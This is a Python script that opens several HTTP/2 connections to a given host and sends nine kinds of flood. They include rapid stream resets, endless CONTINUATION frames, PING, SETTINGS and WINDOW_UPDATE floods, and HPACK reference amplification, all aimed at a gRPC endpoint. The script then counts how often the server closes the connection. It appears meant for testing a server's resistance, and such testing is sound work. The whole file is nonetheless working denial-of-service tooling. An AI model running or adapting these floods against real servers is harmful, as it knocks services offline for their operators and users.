#!/usr/bin/env python3
"""Floods of HTTP/2 frames, as an attacker sends them; answers are read and thrown away.

    floods.py KIND HOST:PORT [--seconds 3] [--connections 4] [--source 127.0.0.2] [--ca CA.pem]

Comes from another address of this machine than other clients, and with TLS where an authority is given.

Prints how many bytes were sent, and how often a connection was closed by the other side.
"""

import argparse
import selectors
import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS = 4
FRAME_BYTES = 16384


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    return bytes([len(value)]) + value


# HPACK without a table: POST, http, the method's path, and the headers that gRPC needs.
CALL = (b"\x83\x86" + b"\x04" + text(b"/warpcall.v1.KernelService/Execute") + b"\x01" + text(b"localhost")
        + b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))
# A header of 100 bytes that is kept nowhere.
PADDING = b"\x00" + text(b"x-filler") + text(90 * b"x")


def begin(stream, block=CALL):
    return frame(HEADERS, block, END_HEADERS, stream)


def streams():
    return range(1, 1 << 31, 2)


def rapid_reset():
    for stream in streams():
        yield begin(stream) + frame(RST_STREAM, struct.pack(">I", 8), 0, stream)


def reset_bursts():
    burst = []
    for stream in streams():
        burst.append(stream)
        if len(burst) == 90:
            yield b"".join(map(begin, burst)) + b"".join(
                frame(RST_STREAM, struct.pack(">I", 8), 0, stream) for stream in burst)
            burst = []


def continuation():
    yield frame(HEADERS, CALL, 0, 1)
    more = PADDING * (FRAME_BYTES // len(PADDING))
    while True:
        yield frame(CONTINUATION, more, 0, 1)


def pings():
    while True:
        yield 200 * frame(PING, b"12345678")


def settings():
    while True:
        yield 200 * frame(SETTINGS, struct.pack(">HI", 4, 65535))


def empty_data():
    yield begin(1)
    while True:
        yield 200 * frame(DATA, b"", 0, 1)


def hpack_references():
    """A header that is kept, and blocks that name it again and again."""
    yield begin(1, CALL + b"\x40" + text(b"x-kept") + b"\x7f\x81\x1e" + 4000 * b"y")
    for stream in streams():
        if stream > 1:
            yield begin(stream, CALL + 8000 * b"\xbe")


def huge_headers():
    more = PADDING * (FRAME_BYTES // len(PADDING))
    for stream in streams():
        yield (frame(HEADERS, CALL, 0, stream) + 63 * frame(CONTINUATION, more, 0, stream)
               + frame(CONTINUATION, more, END_HEADERS, stream))


def window_updates():
    yield begin(1)
    while True:
        yield 200 * frame(WINDOW_UPDATE, struct.pack(">I", 1))


FLOODS = {flood.__name__: flood for flood in (rapid_reset, reset_bursts, continuation, pings, settings,
                                              empty_data, hpack_references, huge_headers, window_updates)}


class Connection:
    def __init__(self, kind, address, source, context):
        self.socket = socket.create_connection(address, timeout=10, source_address=(source, 0))
        if context is not None:
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.socket.setblocking(False)
        self.flood = FLOODS[kind]()
        self.left = PREFACE + frame(SETTINGS)
        self.sent = 0

    def step(self):
        """Reads the bytes that are there, and sends as many as fit; False once the peer closed."""
        try:
            while True:
                if self.socket.recv(1 << 16) == b"":
                    return False
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
        while len(self.left) < 1 << 16:
            self.left += next(self.flood)
        try:
            count = self.socket.send(self.left)
            self.sent += count
            self.left = self.left[count:]
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
        return True


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=FLOODS)
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--ca")
    arguments = parser.parse_args()
    host, port = arguments.address.rsplit(":", 1)
    context = None
    if arguments.ca:
        context = ssl.create_default_context(cafile=arguments.ca)
        context.set_alpn_protocols(["h2"])
    sent = closed = refused = 0
    selector = selectors.DefaultSelector()
    end = time.monotonic() + arguments.seconds
    while time.monotonic() < end:
        try:
            while len(selector.get_map()) < arguments.connections:
                connection = Connection(arguments.kind, (host, int(port)), arguments.source, context)
                selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
        except OSError:
            refused += 1
        for key, _ in selector.select(0.05):
            if not key.data.step():
                selector.unregister(key.fileobj)
                key.fileobj.close()
                sent, closed = sent + key.data.sent, closed + 1
    sent += sum(key.data.sent for key in selector.get_map().values())
    print(f"{sent} bytes sent, {closed} connections closed and {refused} refused by the other side")


if __name__ == "__main__":
    main()
